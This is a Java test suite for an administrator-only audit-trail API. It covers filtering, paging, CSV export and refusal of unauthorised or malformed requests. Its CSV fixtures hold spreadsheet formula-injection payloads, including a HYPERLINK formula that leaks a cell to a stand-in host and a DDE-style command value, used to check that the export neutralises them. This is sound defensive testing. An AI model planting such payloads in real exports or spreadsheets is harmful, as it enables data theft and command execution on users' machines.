package dev.agora.governance;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import dev.agora.identity.Directory;
import dev.agora.identity.LocalAccounts;
import dev.agora.platform.Refusal;
import dev.agora.support.Api;
import dev.agora.support.People;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.StringReader;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/**
 * Administrators read the audit trail through GET /api/v1/admin/audit: filtered, paged in the database, and as a
 * CSV of exactly what the filter shows, formulas neutralised. Nobody else may read it.
 */
@QuarkusTest
class ReadingTheAuditTrailSpec {

    static final String PATH = "/api/v1/admin/audit";

    @Inject
    LocalAccounts accounts;

    @Inject
    Directory directory;

    @Inject
    AuditTrail trail;

    static Instant at(String instant) {
        return Instant.parse(instant);
    }

    static List<Long> ids(Response response) {
        List<Number> ids = response.then().extract().path("entries.id");
        return ids.stream().map(Number::longValue).toList();
    }

    static List<CSVRecord> csv(String body) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(body)).getRecords();
    }

    @Nested
    class An_admin {

        String approver;
        String other;
        long march5;
        long march12;
        long march19;
        long march26;
        long march20Rejected;
        long april2;

        @BeforeEach
        void approvalsOfLastSpring() {
            approver = AuditEvents.uniqueActor("approver");
            other = AuditEvents.uniqueActor("other");
            String approved = "access.request.approved";
            march5 = AuditEvents.record(at("2025-03-05T10:00:00Z"), approver, approved, "request", "r-1", Map.of());
            march12 = AuditEvents.record(at("2025-03-12T10:00:00Z"), approver, approved, "request", "r-2", Map.of());
            march19 = AuditEvents.record(at("2025-03-19T10:00:00Z"), approver, approved, "request", "r-3", Map.of());
            march20Rejected = AuditEvents.record(at("2025-03-20T10:00:00Z"), approver, "access.request.rejected",
                    "request", "r-4", Map.of("reason", "not needed"));
            march26 = AuditEvents.record(at("2025-03-26T10:00:00Z"), approver, approved, "request", "r-5",
                    Map.of("step", "OWNER"));
            april2 = AuditEvents.record(at("2025-04-02T10:00:00Z"), approver, approved, "request", "r-6", Map.of());
            AuditEvents.record(at("2025-03-12T11:00:00Z"), other, approved, "request", "r-7", Map.of());
        }

        @Test
        void combines_actor_action_and_time_range_and_pages_newest_first_on_the_server() {
            Response first = Api.as("admin").queryParam("actor", approver).queryParam("action",
                            "access.request.approved").queryParam("from", "2025-03-10").queryParam("to", "2025-03-31")
                    .queryParam("size", "2").get(PATH);
            first.then().statusCode(200).contentType("application/json")
                    .header("X-Total-Count", "3").body("total", equalTo(3)).body("page", equalTo(0))
                    .body("size", equalTo(2)).body("entries.actor", containsInAnyOrder(approver, approver))
                    .body("entries[0].subjectType", equalTo("request")).body("entries[0].subjectId", equalTo("r-5"))
                    .body("entries[0].details.step", equalTo("OWNER"))
                    .body("entries[0].occurredAt", equalTo("2025-03-26T10:00:00Z"));
            assertThat(ids(first)).containsExactly(march26, march19);

            Response second = Api.as("admin").queryParam("actor", approver).queryParam("action",
                            "access.request.approved").queryParam("from", "2025-03-10").queryParam("to", "2025-03-31")
                    .queryParam("size", "2").queryParam("page", "1").get(PATH);
            second.then().statusCode(200).body("total", equalTo(3)).body("page", equalTo(1));
            assertThat(ids(second)).containsExactly(march12);
        }

        @Test
        void takes_instants_with_both_ends_included() {
            Response response = Api.as("admin").queryParam("actor", approver)
                    .queryParam("from", "2025-03-12T10:00:00Z").queryParam("to", "2025-03-20T11:00:00+01:00")
                    .get(PATH);
            assertThat(ids(response)).containsExactly(march20Rejected, march19, march12);
        }

        @Test
        void matches_an_action_by_a_dotted_prefix_but_not_by_a_part_of_a_word() {
            assertThat(ids(Api.as("admin").queryParam("actor", approver).queryParam("action", "access.request")
                    .get(PATH))).containsExactly(april2, march26, march20Rejected, march19, march12, march5);
            assertThat(ids(Api.as("admin").queryParam("actor", approver).queryParam("action", "access.req")
                    .get(PATH))).isEmpty();
            assertThat(ids(Api.as("admin").queryParam("actor", approver).queryParam("action",
                    "access.request.rejected").get(PATH))).containsExactly(march20Rejected);
        }

        @Test
        void matches_a_subject_by_type_and_id_by_its_id_alone_or_by_its_type() {
            assertThat(ids(Api.as("admin").queryParam("actor", approver).queryParam("subject", "request r-3")
                    .get(PATH))).containsExactly(march19);
            assertThat(ids(Api.as("admin").queryParam("actor", approver).queryParam("subject", "r-3")
                    .get(PATH))).containsExactly(march19);
            assertThat(ids(Api.as("admin").queryParam("actor", approver).queryParam("subject", "team r-3")
                    .get(PATH))).isEmpty();
            assertThat(ids(Api.as("admin").queryParam("actor", approver).queryParam("subject", "request")
                    .get(PATH))).hasSize(6);
        }

        @Test
        void sees_a_change_a_feature_journalled_with_its_details() {
            String actor = AuditEvents.uniqueActor("founder");
            String team = "audited-" + UUID.randomUUID().toString().substring(0, 8);
            directory.ensureTeam(team, "Audited team", "", "sales", actor);

            Api.as("admin").queryParam("subject", "team " + team).get(PATH).then().statusCode(200)
                    .body("total", equalTo(1)).body("entries[0].actor", equalTo(actor))
                    .body("entries[0].action", equalTo("identity.team.created"))
                    .body("entries[0].details.name", equalTo("Audited team"))
                    .body("entries[0].details.domain", equalTo("sales"));
        }
    }

    @Nested
    class The_csv_export {

        String actor;
        List<Long> recorded = new ArrayList<>();

        @BeforeEach
        void moreEventsThanAPageHoldsSomeOfThemLookingLikeFormulas() {
            actor = AuditEvents.uniqueActor("exporter");
            Instant start = at("2025-06-01T08:00:00Z");
            for (int i = 0; i < 55; i++) {
                recorded.add(AuditEvents.record(start.plusSeconds(60L * i), actor, "catalog.product.published",
                        "product", "p-" + i, Map.of("version", "1.0." + i)));
            }
            recorded.add(AuditEvents.record(start.plusSeconds(60L * 55), actor, "identity.team.created", "team",
                    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")", Map.of("name", "=1+2")));
            recorded.add(AuditEvents.record(start.plusSeconds(60L * 56), actor, "identity.team.created", "team",
                    "@SUM(1+1)*cmd|' /C calc'!A0", Map.of()));
            recorded.add(AuditEvents.record(start.plusSeconds(60L * 57), actor, "identity.team.created", "team",
                    "+1-2", Map.of()));
            recorded.add(AuditEvents.record(start.plusSeconds(60L * 58), actor, "identity.team.created", "team",
                    "-5", Map.of()));
        }

        @Test
        void holds_every_event_the_filter_matches_in_the_order_and_with_the_values_the_json_shows()
                throws IOException {
            Response json = Api.as("admin").queryParam("actor", actor).queryParam("size", "500").get(PATH);
            Response file = Api.as("admin").queryParam("actor", actor).queryParam("format", "csv").get(PATH);

            file.then().statusCode(200).contentType(containsString("text/csv"))
                    .header("Content-Disposition", "attachment; filename=audit.csv")
                    .header("X-Total-Count", "59");
            List<CSVRecord> rows = csv(file.asString());
            List<Long> newestFirst = new ArrayList<>(recorded);
            java.util.Collections.reverse(newestFirst);
            assertThat(rows).extracting(r -> Long.parseLong(r.get("id"))).containsExactlyElementsOf(ids(json))
                    .containsExactlyElementsOf(newestFirst);
            CSVRecord oldest = rows.get(rows.size() - 1);
            assertThat(oldest.get("actor")).isEqualTo(actor);
            assertThat(oldest.get("action")).isEqualTo("catalog.product.published");
            assertThat(oldest.get("subject_type")).isEqualTo("product");
            assertThat(oldest.get("subject_id")).isEqualTo("p-0");
            assertThat(oldest.get("occurred_at")).isEqualTo("2025-06-01T08:00:00Z");
            assertThat(oldest.get("details")).isEqualTo("{\"version\":\"1.0.0\"}");
        }

        @Test
        void neutralises_values_a_spreadsheet_would_run_as_formulas() throws IOException {
            List<CSVRecord> rows = csv(Api.as("admin").queryParam("actor", actor).queryParam("action",
                    "identity.team.created").queryParam("format", "csv").get(PATH).then().statusCode(200)
                    .extract().asString());

            assertThat(rows).extracting(r -> r.get("subject_id")).containsExactly("'-5", "'+1-2",
                    "'@SUM(1+1)*cmd|' /C calc'!A0", "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")");
            assertThat(rows.get(3).get("details")).isEqualTo("{\"name\":\"=1+2\"}");
            Api.as("admin").queryParam("actor", actor).queryParam("subject", "-5").get(PATH).then()
                    .body("entries[0].subjectId", equalTo("-5"));
        }

        @Test
        void is_what_an_accept_header_of_text_csv_asks_for_too() throws IOException {
            String body = Api.as("admin").accept("text/csv").queryParam("actor", actor)
                    .queryParam("subject", "product p-7").get(PATH)
                    .then().statusCode(200).contentType(containsString("text/csv"))
                    .header("Content-Disposition", "attachment; filename=audit.csv").extract().asString();
            assertThat(csv(body)).extracting(r -> r.get("subject_id")).containsExactly("p-7");
            assertThat(body).startsWith("id,occurred_at,actor,action,subject_type,subject_id,details\r\n");
        }
    }

    @Nested
    class Someone_who_is_not_an_admin {

        String person;

        @BeforeEach
        void anOrdinaryAccount() {
            person = new People(accounts, directory).person("auditreader");
        }

        @Test
        void is_refused_the_json_and_the_csv_with_a_problem() {
            Api.as(person).get(PATH).then().statusCode(403).contentType("application/problem+json")
                    .body("status", equalTo(403));
            Api.as(person).queryParam("format", "csv").get(PATH).then().statusCode(403)
                    .contentType("application/problem+json");
            Api.as(person).accept("text/csv").get(PATH).then().statusCode(403)
                    .contentType("application/problem+json");
            Api.anonymous().get(PATH).then().statusCode(401).contentType("application/problem+json");
        }

        @Test
        void is_refused_by_the_audit_trail_itself_whichever_way_they_come() {
            assertThatThrownBy(() -> trail.page(person, AuditFilter.EVERYTHING, 0, 10))
                    .isInstanceOfSatisfying(Refusal.class, r -> assertThat(r.kind()).isEqualTo(Refusal.Kind.FORBIDDEN));
            assertThatThrownBy(() -> trail.count(person, AuditFilter.EVERYTHING)).isInstanceOf(Refusal.class);
            assertThatThrownBy(() -> trail.entries(person, AuditFilter.EVERYTHING, 0, 10)).isInstanceOf(Refusal.class);
            assertThatThrownBy(() -> trail.csvExport(person, AuditFilter.EVERYTHING)).isInstanceOf(Refusal.class);
            assertThatThrownBy(() -> trail.count("no-such-account", AuditFilter.EVERYTHING))
                    .isInstanceOf(Refusal.class);
        }
    }

    @Nested
    class A_request_out_of_bounds {

        void refused(Map<String, String> query, String field, String message) {
            Api.as("admin").queryParams(query).get(PATH).then().statusCode(400)
                    .contentType("application/problem+json").body("errors.field", hasItem(field))
                    .body("detail", containsString(message));
        }

        @Test
        void names_a_time_that_is_neither_an_instant_nor_a_date() {
            refused(Map.of("from", "last march"), "from", "ISO-8601");
            refused(Map.of("to", "2025-13-01"), "to", "ISO-8601");
            refused(Map.of("from", "2025-03-01T25:00:00Z"), "from", "ISO-8601");
        }

        @Test
        void ends_before_it_begins() {
            refused(Map.of("from", "2025-04-01", "to", "2025-03-01"), "from", "must not be after to");
        }

        @Test
        void asks_for_a_page_size_or_page_beyond_the_bounds() {
            refused(Map.of("size", "0"), "size", "from 1 to 500");
            refused(Map.of("size", "501"), "size", "from 1 to 500");
            refused(Map.of("size", "many"), "size", "whole number");
            refused(Map.of("page", "-1"), "page", "whole number");
            refused(Map.of("page", "1001", "size", "50"), "page", "must be from 0 to 1000");
        }

        @Test
        void sends_an_overlong_or_multi_line_filter_or_an_unknown_format() {
            refused(Map.of("actor", "a".repeat(201)), "actor", "at most 200");
            refused(Map.of("subject", "team x\r\nforged"), "subject", "single line");
            refused(Map.of("format", "xlsx"), "format", "json or csv");
        }

        @Test
        void is_refused_as_a_problem_even_when_a_csv_was_asked_for() {
            Api.as("admin").accept("text/csv").queryParam("from", "yesterday").get(PATH).then().statusCode(400)
                    .contentType("application/problem+json").body("errors.field", hasItem("from"));
            Api.as("admin").queryParam("format", "csv").queryParam("from", "2025-04-01").queryParam("to", "2025-03-01")
                    .get(PATH).then().statusCode(400).contentType("application/problem+json");
        }

        @Test
        void reports_every_problem_at_once() {
            Api.as("admin").queryParam("actor", "x".repeat(300)).queryParam("from", "soon").get(PATH).then()
                    .statusCode(400).body("errors.field", containsInAnyOrder("actor", "from"));
        }
    }
}
